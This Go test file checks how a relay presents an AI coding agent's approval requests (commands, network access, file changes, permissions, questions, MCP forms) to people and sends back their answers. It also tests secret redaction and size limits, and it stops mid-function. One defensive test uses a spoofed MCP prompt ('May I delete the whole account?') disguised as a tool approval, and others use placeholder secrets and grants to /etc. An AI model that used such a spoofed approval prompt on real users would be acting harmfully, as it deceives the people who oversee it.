package conversation

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"fairlead.dev/fairlead/conversation/wire"
	"fairlead.dev/fairlead/internal/protocol"
)

// A family is one kind of request, as recorded with the real codex, with all
// possible answers.
type family struct {
	name    string
	method  string
	params  string // without thread, turn and item
	before  string // a line that came before it
	in      PumpInput
	kind    protocol.RequestKind
	summary string
	offered string
	answers []familyAnswer
}

type familyAnswer struct {
	send Send
	want string
}

const (
	askedExec = `"command":"/bin/bash -lc 'touch made'","cwd":"/w","reason":"why","commandActions":[{"type":"unknown","command":"touch made"}],"proposedExecpolicyAmendment":["touch"],"availableDecisions":["accept",{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["touch"]}},"cancel"]`
	askedNet  = `"command":"curl a.example","cwd":"/w","networkApprovalContext":{"host":"a.example","protocol":"https"},"availableDecisions":["accept","acceptForSession",{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"a.example","action":"allow"}}},{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"a.example","action":"deny"}}},"cancel"]`
	askedMore = `"cwd":"/w","reason":"need it","permissions":{"network":{"enabled":true},"fileSystem":{"read":["/srv"],"write":["/srv/out"],"entries":[{"path":{"type":"path","path":"/srv"},"access":"read"},{"path":{"type":"path","path":"/srv/out"},"access":"write"}]}}`
	askedTool = `"serverName":"desk","mode":"form","_meta":{"codex_approval_kind":"mcp_tool_call","persist":["session","always"],"tool_description":"books a table","tool_params":{"for":"two"}},"message":"Allow the desk MCP server to run tool \"book\"?","requestedSchema":{"type":"object","properties":{}}`
	askedForm = `"serverName":"desk","mode":"form","_meta":null,"message":"For whom?","requestedSchema":{"type":"object","properties":{"meal":{"type":"string","enum":["fish","meat"],"enumNames":["Fish","Meat"]},"name":{"type":"string","title":"Name","description":"your name","minLength":2},"seats":{"type":"integer","minimum":1,"maximum":8},"tags":{"type":"array","items":{"anyOf":[{"const":"q","title":"quiet"},{"const":"w","title":"window"}]}},"window":{"type":"boolean","default":true}},"required":["name","seats"]}`
	askedURL  = `"serverName":"desk","mode":"url","_meta":null,"message":"Sign in","url":"https://example.com/sign-in","elicitationId":"e-1"`
	askedUser = `"questions":[{"id":"colour","header":"Colour","question":"Which colour?","isOther":true,"isSecret":false,"options":[{"label":"red","description":"is red"},{"label":"blue","description":"is blue"}]},{"id":"word","header":"","question":"The word?","isOther":false,"isSecret":true,"options":null}],"isBlocking":false,"autoResolutionMs":null`
	askedHere = `"namespace":null,"tool":"ask_human","callId":"c","arguments":{"question":"Ship it?","choices":["yes","no"]}`
	oldExec   = `"conversationId":"thread-1","callId":"c","approvalId":null,"command":["bash","-lc","echo 'a' > b"],"cwd":"/w","reason":"why","parsedCmd":[{"type":"unknown","cmd":"echo 'a' > b"}]`
	oldPatch  = `"conversationId":"thread-1","callId":"c","reason":null,"grantRoot":null,"fileChanges":{"/w/b":{"type":"update","unified_diff":"@@ -1 +1 @@","move_path":"/w/c"},"/w/a":{"type":"add","content":"hi"}}`
)

// toolBegun is the line that codex writes before it asks whether a tool may be called.
var toolBegun = started("c", "mcpToolCall", `,"server":"desk","tool":"book","arguments":{"for":"two"}`)

// Each answer has the one shape that codex accepts for the request.
var askedFamilies = []family{
	{
		name: "command", method: methodCommandApproval, params: askedExec, kind: protocol.KindCommand,
		summary: "run touch made", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"decision":"accept"}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"decision":"acceptForSession"}`},
			{Send{Outcome: protocol.Decline, Reason: "no"}, `{"decision":"decline"}`},
			{Send{Outcome: protocol.Cancel}, `{"decision":"cancel"}`},
		},
	},
	{
		name: "command with a rule for the codex home", method: methodCommandApproval, params: askedExec, in: PumpInput{Amend: true}, kind: protocol.KindCommand,
		summary: "run touch made", offered: "accept accept_for_session decline cancel amend",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Amend}, `{"decision":{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["touch"]}}}`},
			{Send{Outcome: protocol.Accept}, `{"decision":"accept"}`},
		},
	},
	{
		name: "network", method: methodCommandApproval, params: askedNet, in: PumpInput{Amend: true}, kind: protocol.KindCommand,
		summary: "reach a.example for curl a.example", offered: "accept accept_for_session decline cancel amend",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"decision":"accept"}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"decision":"accept"}`}, // see (*asked).remembers
			{Send{Outcome: protocol.Amend}, `{"decision":{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"a.example","action":"allow"}}}}`},
		},
	},
	{
		name: "command with more permissions", method: methodCommandApproval, kind: protocol.KindCommand,
		params:  `"command":"make","cwd":"/w","additionalPermissions":{"network":{"enabled":true},"fileSystem":{"read":null,"write":["/srv"],"entries":[{"path":{"type":"path","path":"/srv"},"access":"write"}]}},"availableDecisions":["accept","cancel"]`,
		summary: "run make, being allowed to use the network, write /srv", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{{Send{Outcome: protocol.Accept}, `{"decision":"accept"}`}},
	},
	{
		name: "file change", method: methodFileApproval, params: `"reason":null,"grantRoot":null`, kind: protocol.KindFileChange,
		before:  started("c", "fileChange", `,"changes":[{"path":"/w/a","kind":{"type":"add"},"diff":"hi"}]`),
		summary: "add /w/a", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"decision":"accept"}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"decision":"accept"}`}, // see (*asked).remembers
			{Send{Outcome: protocol.Decline}, `{"decision":"decline"}`},
			{Send{Outcome: protocol.Cancel}, `{"decision":"cancel"}`},
		},
	},
	{
		name: "permissions", method: methodPermissions, params: askedMore, kind: protocol.KindPermissions,
		summary: "be allowed to use the network, read /srv, write /srv/out", offered: "accept accept_for_session grant decline",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"permissions":{"network":{"enabled":true},"fileSystem":{"read":["/srv"],"write":["/srv/out"],"entries":[{"path":{"type":"path","path":"/srv"},"access":"read"},{"path":{"type":"path","path":"/srv/out"},"access":"write"}]}},"scope":"turn"}`},
			{Send{Outcome: protocol.Grant, Grant: json.RawMessage(`{"fileSystem":{"write":["/srv/out/a"]}}`)}, `{"permissions":{"fileSystem":{"write":["/srv/out/a"]}},"scope":"turn"}`},
			{Send{Outcome: protocol.Grant, Grant: json.RawMessage(`{"network":{"enabled":true}}`), ForSession: true}, `{"permissions":{"network":{"enabled":true}},"scope":"session"}`},
			{Send{Outcome: protocol.Decline, ForSession: true}, `{"permissions":{},"scope":"turn"}`},
		},
	},
	{
		name: "questions", method: methodUserInput, params: askedUser, kind: protocol.KindUserInput,
		summary: "Which colour? (and 1 more)", offered: "answer decline",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Answer, Answers: map[string][]string{"colour": {"violet"}, "word": {"sesame"}}}, `{"answers":{"colour":{"answers":["violet"]},"word":{"answers":["sesame"]}}}`},
			{Send{Outcome: protocol.Decline}, `{"answers":{}}`},
		},
	},
	{
		name: "ask_human", method: methodToolCall, params: askedHere, in: PumpInput{Thread: ThreadSpec{Tools: []string{protocol.ToolAskHuman}}}, kind: protocol.KindUserInput,
		summary: "Ship it?", offered: "answer decline",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Answer, Answers: map[string][]string{"answer": {"no"}}}, `{"contentItems":[{"type":"inputText","text":"no"}],"success":true}`},
			{Send{Outcome: protocol.Decline, Reason: "ask me tomorrow"}, `{"contentItems":[{"type":"inputText","text":"The question was not answered: ask me tomorrow Go on without an answer as well as you can, or stop and say what is missing."}],"success":false}`},
		},
	},
	{
		name: "call of an MCP tool", method: methodElicitation, params: askedTool, before: toolBegun, kind: protocol.KindElicitation,
		summary: "call the tool book of the MCP server desk", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"action":"accept","content":null}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"action":"accept","content":null}`}, // see (Send).elicitation
			{Send{Outcome: protocol.Decline}, `{"action":"decline","content":null}`},
			{Send{Outcome: protocol.Cancel}, `{"action":"cancel","content":null}`},
		},
	},
	{
		name: "call of an MCP tool with a rule", method: methodElicitation, params: askedTool, before: toolBegun, in: PumpInput{Amend: true}, kind: protocol.KindElicitation,
		summary: "call the tool book of the MCP server desk", offered: "accept accept_for_session decline cancel amend",
		answers: []familyAnswer{{Send{Outcome: protocol.Amend}, `{"action":"accept","content":null,"_meta":{"persist":"always"}}`}},
	},
	{
		name: "form of an MCP server", method: methodElicitation, params: askedForm, kind: protocol.KindElicitation,
		summary: "the MCP server desk asks: For whom?", offered: "answer decline cancel",
		answers: []familyAnswer{
			{
				Send{Outcome: protocol.Answer, Answers: map[string][]string{"name": {"Ann"}, "seats": {"2"}, "tags": {"q", "w"}, "meal": {"fish"}}},
				`{"action":"accept","content":{"meal":"fish","name":"Ann","seats":2,"tags":["q","w"],"window":true}}`,
			},
			{Send{Outcome: protocol.Answer, Answers: map[string][]string{"name": {"Ann"}, "seats": {"8"}, "window": {"no"}}}, `{"action":"accept","content":{"name":"Ann","seats":8,"window":false}}`},
			{Send{Outcome: protocol.Decline}, `{"action":"decline","content":null}`},
			{Send{Outcome: protocol.Cancel}, `{"action":"cancel","content":null}`},
		},
	},
	{
		name: "page of an MCP server", method: methodElicitation, params: askedURL, kind: protocol.KindElicitation,
		summary: "the MCP server desk wants https://example.com/sign-in opened: Sign in", offered: "accept decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"action":"accept","content":null}`},
			{Send{Outcome: protocol.Decline}, `{"action":"decline","content":null}`},
		},
	},
	{
		name: "command of the first protocol", method: methodExecApproval, params: oldExec, kind: protocol.KindCommand,
		summary: "run echo 'a' > b", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"decision":"approved"}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"decision":"approved_for_session"}`},
			{Send{Outcome: protocol.Decline, Reason: "no"}, `{"decision":{"denied":{"rejection":"no"}}}`},
			{Send{Outcome: protocol.Cancel}, `{"decision":"abort"}`},
		},
	},
	{
		name: "patch of the first protocol", method: methodPatchApproval, params: oldPatch, kind: protocol.KindFileChange,
		summary: "add /w/a, update /w/b -> /w/c", offered: "accept accept_for_session decline cancel",
		answers: []familyAnswer{
			{Send{Outcome: protocol.Accept}, `{"decision":"approved"}`},
			{Send{Outcome: protocol.Accept, ForSession: true}, `{"decision":"approved"}`}, // see (*asked).remembers
			{Send{Outcome: protocol.Cancel}, `{"decision":"abort"}`},
		},
	},
}

// line is the request as codex writes it.
func (f family) line(id int) string {
	return fmt.Sprintf(`{"method":%q,"id":%d,"params":{"threadId":%q,"turnId":%q,"itemId":"c","startedAtMs":2000,%s}}`, f.method, id, ourThread, ourTurn, f.params)
}

// ask runs the pump that reports the request.
func (f family) ask(t *testing.T, opt Options) (*stage, PumpResult) {
	t.Helper()
	in := f.in
	in.State = running()
	s := perform(t, in, opt)
	if f.before != "" {
		s.hear(f.before)
	}
	s.hear(f.line(7))
	s.wait(time.Second)
	return s, s.result(RequestsOpen)
}

// answer runs the next pump, which reads the journal from the offset that the first pump
// returned.
func (f family) answer(t *testing.T, first *stage, r PumpResult, d Send, opt Options) *stage {
	t.Helper()
	q := r.Requests[0]
	d.ID, d.Kind, d.RPC, d.Incarnation, d.RequestKind, d.Method = "d", SendDecision, q.RPC, q.Incarnation, q.Kind, q.Method
	in := f.in
	in.State, in.Sends = r.State, []Send{d}
	return perform(t, in, opt, first.since(r.State.Rewind)...)
}

func TestEveryFamilyIsAskedAndAnsweredInItsShape(t *testing.T) {
	for _, f := range askedFamilies {
		t.Run(f.name, func(t *testing.T) {
			first, r := f.ask(t, Options{})
			first.heard()
			q := r.Requests[0]
			if q.Kind != f.kind || q.Method != f.method || q.Summary != f.summary || strings.Join(q.Offered, " ") != f.offered || len(q.Digest) != 64 || q.Truncated {
				t.Errorf("request %+v", q)
			}
			if e := first.sink.entries[len(first.sink.entries)-1]; e.Type != protocol.EntryRequest || e.Text != f.summary || e.Digest != q.Digest || e.Data["kind"] != string(f.kind) {
				t.Errorf("on record %+v", e)
			}
			for _, a := range f.answers {
				s := f.answer(t, first, r, a.send, Options{})
				want := fmt.Sprintf(`{"id":7,"result":%s}`, a.want)
				if len(s.said) != 1 || !sameJSON(json.RawMessage(s.said[0]), json.RawMessage(want)) {
					t.Errorf("%s:\n%q, want\n%s", a.send.Outcome, s.said, want)
				}
				s.hear(resolvedLine(7), turnDone("completed", ""))
				if r := s.result(TurnEnded); r.Deliveries[0].State != protocol.Acknowledged || len(r.State.Open) != 0 || len(r.Resolved) != 0 {
					t.Errorf("%s: %+v", a.send.Outcome, r)
				}
			}
		})
	}
}

// A pump that takes over gives the same answer from the same lines, whether the
// pump before it has written its answer or not.
func TestSecondAttemptAnswersEveryFamilyAlike(t *testing.T) {
	for _, f := range askedFamilies {
		first, r := f.ask(t, Options{})
		a := f.answers[0]
		one := f.answer(t, first, r, a.send, Options{})
		two := f.answer(t, first, r, a.send, Options{Attempt: 2})
		if len(two.said) != 1 || two.said[0] != one.said[0] {
			t.Errorf("%s: said %q, and %q again", f.name, one.said, two.said)
		}
		// The journal shows that the answer had arrived.
		in := f.in
		in.State, in.Sends = r.State, []Send{two.m.delivery.sends[0].Send}
		three := perform(t, in, Options{Attempt: 2}, append(first.since(r.State.Rewind), resolvedLine(7))...)
		three.heard()
		three.hear(turnDone("completed", ""))
		if r := three.result(TurnEnded); r.Deliveries[0].State != protocol.Acknowledged {
			t.Errorf("%s: %+v", f.name, r.Deliveries)
		}
	}
}

func TestRequestsAreVoidWhenTheirProcessEnds(t *testing.T) {
	for _, f := range askedFamilies {
		first, r := f.ask(t, Options{})
		s := f.answer(t, first, PumpResult{State: r.State, Requests: r.Requests}, f.answers[0].send, Options{})
		s.m.ended(s.m.now)
		if r := s.result(ProcessEnded); len(r.State.Open) != 0 || r.Deliveries[0].State == protocol.Acknowledged {
			t.Errorf("%s: %+v", f.name, r)
		}
		// The next process does not know these requests.
		next := r.State
		next.Cursor = protocol.Cursor{Incarnation: 4}
		next.Rewind = 0
		in := f.in
		in.State, in.Resume, in.Sends = next, true, []Send{s.m.delivery.sends[0].Send}
		in.Thread.CWD, in.Thread.Sandbox, in.Thread.ApprovalPolicy = "/w", "read-only", "on-request"
		s = perform(t, in, Options{})
		if len(s.m.st.Open) != 0 || len(s.m.requests.resolved) != 1 {
			t.Errorf("%s: open %v, resolved %v", f.name, s.m.st.Open, s.m.requests.resolved)
		}
	}
}

// The same request has the same digest on another day. If the effect of accepting differs,
// the digest differs.
func TestDigestsOfEveryFamily(t *testing.T) {
	seen := map[string]string{}
	digest := func(f family) string {
		_, r := f.ask(t, Options{})
		return r.Requests[0].Digest
	}
	for _, f := range askedFamilies {
		d := digest(f)
		if other := seen[d]; other != "" {
			t.Errorf("%s has the digest of %s", f.name, other)
		}
		seen[d] = f.name
		again := f
		again.params = strings.NewReplacer(`"reason":"why"`, `"reason":"another"`, `"reason":"need it"`, `"reason":"really"`, `"elicitationId":"e-1"`, `"elicitationId":"e-2"`).Replace(f.params)
		if digest(again) != d {
			t.Errorf("%s: reason or id are in the digest", f.name)
		}
	}
	for _, change := range [][2]string{
		{"touch made", "touch other"}, {`"cwd":"/w"`, `"cwd":"/x"`}, {"a.example", "b.example"}, {`"https"`, `"http"`}, {`"enabled":true`, `"enabled":false`},
		{`"write":["/srv`, `"write":["/etc`}, {"Which colour?", "Which shape?"}, {`"label":"red"`, `"label":"reddish"`}, {"Ship it?", "Sink it?"},
		{`"for":"two"`, `"for":"three"`}, {`\"book\"`, `\"burn\"`}, {`"serverName":"desk"`, `"serverName":"disk"`}, {"For whom?", "For what?"},
		{`"minLength":2`, `"minLength":3`}, {"example.com/sign-in", "example.org/sign-in"}, {"echo 'a'", "echo 'b'"}, {`"content":"hi"`, `"content":"ho"`},
		{`"grantRoot":null`, `"grantRoot":"/srv"`}, {`"command":"/bin/bash -lc`, `"kind":"writeStdin","command":"/bin/bash -lc`},
		{`"execpolicy_amendment":["touch"]`, `"execpolicy_amendment":["rm"]`}, {`"move_path":"/w/c"`, `"move_path":"/etc/c"`},
	} {
		tried := false
		for _, f := range askedFamilies {
			if !strings.Contains(f.params, change[0]) || change[0] == `"execpolicy_amendment":["touch"]` && !f.in.Amend {
				continue
			}
			tried = true
			other := f
			other.params = strings.ReplaceAll(f.params, change[0], change[1])
			other.before = strings.ReplaceAll(f.before, strings.ReplaceAll(change[0], `\`, ""), strings.ReplaceAll(change[1], `\`, ""))
			if digest(other) == digest(f) {
				t.Errorf("%s: %s is not in the digest", f.name, change[0])
			}
		}
		if !tried {
			t.Errorf("%s is asked nowhere", change[0])
		}
	}
}

// A decision that does not fit leaves no request open: codex gets a decline, and the person
// who decided learns why.
func TestDecisionThatDoesNotFitIsDeclined(t *testing.T) {
	for name, wrong := range map[string]Send{
		"permissions":           {Outcome: protocol.Grant, Grant: json.RawMessage(`{"fileSystem":{"write":["/etc"]}}`)},
		"questions":             {Outcome: protocol.Answer, Answers: map[string][]string{"colour": {"red"}}},
		"ask_human":             {Outcome: protocol.Answer, Answers: map[string][]string{"answer": {"perhaps"}}},
		"form of an MCP server": {Outcome: protocol.Answer, Answers: map[string][]string{"name": {"Ann"}, "seats": {"9"}}},
		"call of an MCP tool":   {Outcome: protocol.Amend},
		"command":               {Outcome: protocol.Amend},
	} {
		i := slices.IndexFunc(askedFamilies, func(f family) bool { return f.name == name })
		f := askedFamilies[i]
		first, r := f.ask(t, Options{})
		s := f.answer(t, first, r, wrong, Options{})
		if len(s.said) != 1 || !strings.HasPrefix(s.said[0], `{"id":7,"result":`) || strings.Contains(s.said[0], "accept") {
			t.Errorf("%s: said %q", name, s.said)
		}
		s.hear(resolvedLine(7), turnDone("completed", ""))
		told := s.result(TurnEnded)
		if told.Deliveries[0].State != protocol.Rejected || told.Deliveries[0].Error == "" || len(told.State.Open) != 0 {
			t.Errorf("%s: %+v", name, told.Deliveries)
		}
		// If an attempt died, the next one finds the request answered, and reports the
		// same.
		in := f.in
		in.State, in.Sends = r.State, []Send{s.m.delivery.sends[0].Send}
		again := perform(t, in, Options{Attempt: 2}, append(first.since(r.State.Rewind), resolvedLine(7), turnDone("completed", ""))...)
		again.heard()
		if got := again.result(TurnEnded); got.Deliveries[0] != told.Deliveries[0] {
			t.Errorf("%s: told %+v, and before %+v", name, got.Deliveries, told.Deliveries)
		}
	}
}

// Amendments change rules for all threads of a codex home, so they are offered only if this
// is allowed. An amendment that forbids something for ever is never offered.
func TestAmendmentsAreOfferedOnlyWhereTheyMayBe(t *testing.T) {
	for _, f := range askedFamilies {
		f.in.Amend = false
		_, r := f.ask(t, Options{})
		if q := r.Requests[0]; slices.Contains(q.Offered, "amend") || len(q.Amendment) > 0 {
			t.Errorf("%s: %+v", f.name, q)
		}
	}
	words := map[string]string{
		askedExec: "run whatever begins with: touch", askedNet: "reach a.example",
		askedTool: "call the tool book of the MCP server desk, with whatever arguments",
		`"command":"x","availableDecisions":["accept",{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"a.example","action":"deny"}}},"cancel"]`: "",
	}
	for params, want := range words {
		f := family{method: methodCommandApproval, params: params, in: PumpInput{Amend: true}}
		if params == askedTool {
			f.method, f.before = methodElicitation, toolBegun
		}
		_, r := f.ask(t, Options{})
		q := r.Requests[0]
		if strings.Join(q.Amendment, "|") != want || slices.Contains(q.Offered, "amend") != (want != "") {
			t.Errorf("%s: %+v", params, q)
		}
	}
}

func TestTheContextOfARequestIsShown(t *testing.T) {
	ask := func(name string) (protocol.Request, protocol.Entry) {
		f := askedFamilies[slices.IndexFunc(askedFamilies, func(f family) bool { return f.name == name })]
		s, r := f.ask(t, Options{})
		return r.Requests[0], s.sink.entries[len(s.sink.entries)-1]
	}
	q, e := ask("network")
	if q.Network != "a.example" || e.Data["network"] != "a.example" {
		t.Errorf("%+v, %+v", q, e)
	}
	q, e = ask("command with more permissions")
	if len(q.Permissions) == 0 || e.Data["permissions"] != "use the network\nwrite /srv" {
		t.Errorf("%+v, %+v", q, e)
	}
	q, e = ask("call of an MCP tool")
	if q.Server != "desk" || q.Tool != "book" || q.Args != `{"for":"two"}` || e.Tool != "book" || e.Data["server"] != "desk" || e.Data["arguments"] != q.Args {
		t.Errorf("%+v, %+v", q, e)
	}
	q, e = ask("page of an MCP server")
	if q.URL != "https://example.com/sign-in" || e.Data["url"] != q.URL {
		t.Errorf("%+v, %+v", q, e)
	}
	q, e = ask("questions")
	if len(q.Questions) != 2 || !q.Questions[1].Secret || e.Data["questions"] != "colour: Which colour? [red, blue]\nword: The word?" {
		t.Errorf("%+v, %+v", q, e)
	}
	q, _ = ask("form of an MCP server")
	want := []protocol.Question{
		{ID: "meal", Text: "meal", Type: "string", Optional: true, Options: []protocol.Choice{{Label: "fish", Description: "Fish"}, {Label: "meat", Description: "Meat"}}},
		{ID: "name", Header: "Name", Text: "your name", Type: "string", Least: bound(2)},
		{ID: "seats", Text: "seats", Type: "integer", Least: bound(1), Most: bound(8)},
		{ID: "tags", Text: "tags", Type: "string", Many: true, Optional: true, Options: []protocol.Choice{{Label: "q", Description: "quiet"}, {Label: "w", Description: "window"}}},
		{ID: "window", Text: "window", Type: "boolean", Optional: true, Default: "true"},
	}
	if string(canonical(q.Questions)) != string(canonical(want)) {
		t.Errorf("%s, want\n%s", canonical(q.Questions), canonical(want))
	}
}

func TestSecretsInQuestionsAreRedactedAndStillAnswered(t *testing.T) {
	const secret = "sk-secret-12345"
	f := family{method: methodUserInput, params: fmt.Sprintf(`"questions":[{"id":"k-%[1]s","header":"h","question":"Is %[1]s it?","options":[{"label":"yes %[1]s","description":"%[1]s"}]}]`, secret)}
	opt := Options{Redactor: NewRedactor(secret)}
	first, r := f.ask(t, opt)
	q := r.Requests[0]
	for what, text := range map[string]string{"result": string(canonical(r)), "entries": string(canonical(first.sink.entries)), "whole": string(canonical(first.sink.requests))} {
		if strings.Contains(text, secret) {
			t.Errorf("it is in the %s: %s", what, text)
		}
	}
	s := f.answer(t, first, r, Send{Outcome: protocol.Answer, Answers: map[string][]string{q.Questions[0].ID: {q.Questions[0].Options[0].Label}}}, opt)
	s.heard(fmt.Sprintf(`{"id":7,"result":{"answers":{"k-%[1]s":{"answers":["yes %[1]s"]}}}}`, secret))
}

// A person's answer to a secret question is redacted from then on.
func TestSecretAnswersAreRedactedFromThenOn(t *testing.T) {
	const secret = "hunter2-hunter2"
	f := askedFamilies[slices.IndexFunc(askedFamilies, func(f family) bool { return f.name == "questions" })]
	opt := Options{Redactor: NewRedactor()}
	first, r := f.ask(t, opt)
	s := f.answer(t, first, r, Send{Outcome: protocol.Answer, Answers: map[string][]string{"colour": {"red"}, "word": {secret}}}, opt)
	s.hear(resolvedLine(7), completed("m", "agentMessage", fmt.Sprintf(`,"text":"so %s it is"`, secret)), turnDone("completed", ""))
	r = s.result(TurnEnded)
	if text := string(canonical(s.sink.entries)) + string(canonical(r)); strings.Contains(text, secret) || !strings.Contains(text, "it is") {
		t.Error(text)
	}
}

func TestTooMuchToAskIsRefusedInItsShape(t *testing.T) {
	long := strings.Repeat("x", maxBulk)
	var many []string
	for i := range maxQuestions + 1 {
		many = append(many, fmt.Sprintf(`{"id":"q%d","header":"h","question":"?"}`, i))
	}
	for name, f := range map[string]family{
		"a question":       {method: methodUserInput, params: fmt.Sprintf(`"questions":[{"id":"a","header":"h","question":%q}]`, long)},
		"questions":        {method: methodUserInput, params: `"questions":[` + strings.Join(many, ",") + `]`},
		"no question":      {method: methodUserInput, params: `"questions":[]`},
		"the same id":      {method: methodUserInput, params: `"questions":[{"id":"a","question":"?"},{"id":"a","question":"!"}]`},
		"permissions":      {method: methodPermissions, params: fmt.Sprintf(`"permissions":{"fileSystem":{"read":["/%s"]}}`, long)},
		"no permissions":   {method: methodPermissions, params: `"permissions":null`},
		"a form":           {method: methodElicitation, params: fmt.Sprintf(`"serverName":"desk","mode":"form","message":"m","requestedSchema":{"type":"object","properties":{"a":{"type":"string","description":%q}}}`, long)},
		"a strange form":   {method: methodElicitation, params: `"serverName":"desk","mode":"form","message":"m","requestedSchema":{"type":"object","properties":{"a":{"type":"object"}}}`},
		"an address":       {method: methodElicitation, params: fmt.Sprintf(`"serverName":"desk","mode":"url","message":"m","url":%q`, long)},
		"a proof":          {method: methodElicitation, params: `"serverName":"desk","mode":"openai/userVerification","title":"t","description":"d","challenge":"c"`},
		"another approval": {method: methodElicitation, params: `"serverName":"desk","mode":"form","_meta":{"codex_approval_kind":"launch"},"message":"m","requestedSchema":{"type":"object","properties":{}}`},
		"no text":          {method: methodToolCall, params: `"tool":"ask_human","callId":"c","arguments":{"question":" "}`, in: PumpInput{Thread: ThreadSpec{Tools: []string{protocol.ToolAskHuman}}}},
		"not our question": {method: methodToolCall, params: `"tool":"ask_human","callId":"c","arguments":{"question":"?"}`},
	} {
		in := f.in
		in.State = running()
		s := perform(t, in, Options{})
		s.hear(f.line(7))
		want, _ := refusal(f.method, "", wire.TestedVersion)
		if want == "" || len(s.said) != 1 || !strings.HasPrefix(s.said[0], `{"id":7,"result":`) {
			t.Errorf("%s: said %q", name, s.said)
		}
		if e := s.sink.entries; len(e) != 1 || e[0].Type != protocol.EntryRequest || e[0].Status != "refused" || !strings.Contains(e[0].Text, want) {
			t.Errorf("%s: on record %+v", name, e)
		}
		s.hear(resolvedLine(7))
		s.attached()
	}
}

// The part of the requests that a workflow holds stays small, even if codex asks much at
// the same time.
func TestWhatIsAskedAtOnceIsBounded(t *testing.T) {
	big := fmt.Sprintf(`"questions":[{"id":"a","header":"h","question":%q}]`, strings.Repeat("x", maxBulk-200))
	s := perform(t, PumpInput{State: running()}, Options{})
	for i := range 10 {
		s.hear(family{method: methodUserInput, params: big}.line(i))
	}
	s.wait(time.Second)
	r := s.result(RequestsOpen)
	if len(r.Requests) != maxAllBulk/maxBulk || len(s.said) != 10-len(r.Requests) {
		t.Errorf("%d are asked, %d refused", len(r.Requests), len(s.said))
	}
	if n := len(canonical(r)); n > maxAllBulk+maxAsked {
		t.Errorf("the result takes %d bytes", n)
	}
}

// A sub-agent's request is decided like any other, and its entries name the sub-agent.
func TestRequestsOfSubAgents(t *testing.T) {
	line := strings.NewReplacer(ourThread, "thread-2", ourTurn, "turn-2").Replace(askedFamilies[0].line(7))
	s := perform(t, PumpInput{State: running()}, Options{})
	s.hear(line)
	s.wait(time.Second)
	r := s.result(RequestsOpen)
	if e := s.sink.entries[0]; e.SubAgent() != "thread-2" || r.Requests[0].TurnID != "turn-2" || r.Requests[0].Agent != "agent 1" {
		t.Errorf("%+v, %+v", r.Requests[0], e)
	}
	d := decision("d", 7, protocol.Accept)
	s = perform(t, PumpInput{State: r.State, Sends: []Send{d}}, Options{}, s.since(r.State.Rewind)...)
	s.heard(`{"id":7,"result":{"decision":"accept"}}`)
	// The sub-agent's turn ends before anybody has decided the request.
	s = perform(t, PumpInput{State: r.State}, Options{}, started("busy", "commandExecution", ""),
		strings.NewReplacer(ourThread, "thread-2", ourTurn, "turn-2").Replace(turnDone("interrupted", "")))
	if len(s.m.st.Open) != 0 || len(s.m.requests.resolved) != 1 {
		t.Errorf("open %v, resolved %v", s.m.st.Open, s.m.requests.resolved)
	}
	s.attached()
}

// An elicitation of a server is shown as an elicitation, whatever its _meta says. Only
// codex asks whether a tool may be called, once for each call.
func TestAServersFormIsNoApprovalOfATool(t *testing.T) {
	spoofed := strings.Replace(askedTool, `Allow the desk MCP server to run tool \"book\"?`, "May I delete the whole account?", 1)
	for name, c := range map[string]struct{ before, params, offered string }{
		"another sentence":     {toolBegun, spoofed, "accept decline cancel"},
		"something to fill in": {toolBegun, strings.Replace(askedTool, `"properties":{}`, `"properties":{"sure":{"type":"boolean"}}`, 1), "answer decline cancel"},
		"no call":              {"", askedTool, "accept decline cancel"},
		"other arguments":      {strings.Replace(toolBegun, `"two"`, `"three"`, 1), askedTool, "accept decline cancel"},
		"another server":       {strings.Replace(toolBegun, "desk", "disk", 1), askedTool, "accept decline cancel"},
	} {
		f := family{method: methodElicitation, before: c.before, params: c.params, in: PumpInput{Amend: true}}
		first, r := f.ask(t, Options{})
		q := r.Requests[0]
		if q.Tool != "" || q.Args != "" || len(q.Amendment) > 0 || strings.Join(q.Offered, " ") != c.offered || !strings.HasPrefix(q.Summary, "the MCP server desk asks: ") {
			t.Errorf("%s: %+v", name, q)
		}
		if c.offered[:6] == "accept" { // the next pump takes it for the same kind of request
			s := f.answer(t, first, r, Send{Outcome: protocol.Accept}, Options{})
			s.heard(`{"id":7,"result":{"action":"accept","content":{}}}`)
		}
	}
	// The second question about one call comes from the server.
	s := perform(t, PumpInput{State: running()}, Options{})
	f := family{method: methodElicitation, params: askedTool}
	s.hear(toolBegun, f.line(7), f.line(8))
	s.wait(time.Second)
	if r := s.result(RequestsOpen); len(r.Requests) != 2 || r.Requests[0].Tool != "book" || r.Requests[1].Tool != "" {
		t.Errorf("%+v", r.Requests)
	}
}

func TestAPasswordInAFormIsSecret(t *testing.T) {
	q, err := formQuestion("p", json.RawMessage(`{"type":"string","format":"password"}`))
	if err != nil || !q.Secret {
		t.Errorf("%+v, %v", q, err)
	}
}

// The widest effect of accepting is shown first, even if the rest is long.
func TestTheFolderThatAChangeOpensIsAlwaysShown(t *testing.T) {
	var cs []string
	for i := range 6 {
